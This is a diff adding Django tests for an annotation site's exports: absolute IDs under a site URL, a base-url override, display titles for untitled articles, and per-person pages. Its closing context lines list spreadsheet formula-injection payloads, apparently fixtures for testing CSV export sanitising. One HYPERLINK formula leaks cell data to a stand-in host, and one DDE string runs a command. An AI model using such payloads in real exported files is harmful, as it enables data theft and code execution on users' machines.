@@ -209,6 +209,70 @@ def test_demo_annotations_load_once_and_one_links_two_articles(django_user_model
     assert linking and all(a.targets.count() == 2 for a in linking)
 
 
+def test_every_id_in_the_export_is_absolute_under_the_site_url_and_its_page_answers(
+    annotated, client, author, settings
+):
+    settings.PARALLAX_SITE_URL = "https://parallax.example.org"
+    data = json.loads(export())
+    ids = [data["id"]]
+    for item in data["items"]:
+        ids += [item["id"], item["creator"]["id"], item["parallax:comparison"]]
+        ids += [target["source"]["id"] for target in item["target"]]
+    assert all(i.startswith("https://parallax.example.org/") for i in ids), ids
+    client.force_login(author)
+    for iri in set(ids):
+        path = iri.removeprefix("https://parallax.example.org")
+        assert client.get(path).status_code == 200, iri
+
+
+def test_command_line_ids_default_to_the_local_site_and_base_url_overrides(annotated):
+    data = json.loads(export())
+    assert data["items"][0]["id"].startswith("http://127.0.0.1:8000/annotations/")
+    out = io.StringIO()
+    call_command("export_annotations", "--base-url", "https://mirror.example.org/", stdout=out)
+    creator = json.loads(out.getvalue())["items"][0]["creator"]
+    assert creator["id"] == f"https://mirror.example.org/people/{creator['nickname']}/"
+
+
+def test_a_page_export_without_a_site_url_uses_the_address_it_was_asked_on(
+    annotated, client, author
+):
+    client.force_login(author)
+    response = client.get(reverse("annotation_export", args=["jsonld"]))
+    item = json.loads(response.content)["items"][0]
+    assert item["id"].startswith("http://testserver/annotations/")
+
+
+def test_exports_give_an_untitled_articles_display_title_not_its_file_name(
+    annotated, articles, client, author
+):
+    a, _ = articles
+    a.title, a.source_name = "", "003_invented_upload.txt"
+    a.save()
+    expected = a.display_title
+    assert expected.startswith("Harbour Ledger staff") and "003_" not in expected
+    sources = [t["source"] for i in json.loads(export())["items"] for t in i["target"]]
+    assert {s["title"] for s in sources if s["parallax:outlet"] == "Harbour Ledger"} == {expected}
+    rows = list(csv.DictReader(io.StringIO(export("csv"))))
+    assert {r["a_title"] for r in rows} == {expected}
+    client.force_login(author)
+    page = client.get(a.get_absolute_url()).content.decode()
+    assert f"<h1>{expected}</h1>" in page  # what the article page calls it
+
+
+def test_a_persons_page_lists_only_their_annotations_and_an_unknown_person_is_404(
+    annotated, client, author, other
+):
+    client.force_login(author)
+    response = client.get(reverse("person_detail", args=[other.username]))
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert f"Annotations by {other.username}" in html and "1 annotation<" in html
+    assert f"?author={other.username}" in html  # its export links export theirs
+    assert f'href="/people/{other.username}/"' in html  # the card names its author
+    assert client.get(reverse("person_detail", args=["nobody-here"])).status_code == 404
+
+
 FORMULAS = {
     "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "plus": "+1+cmd|' /C calc'!A0",
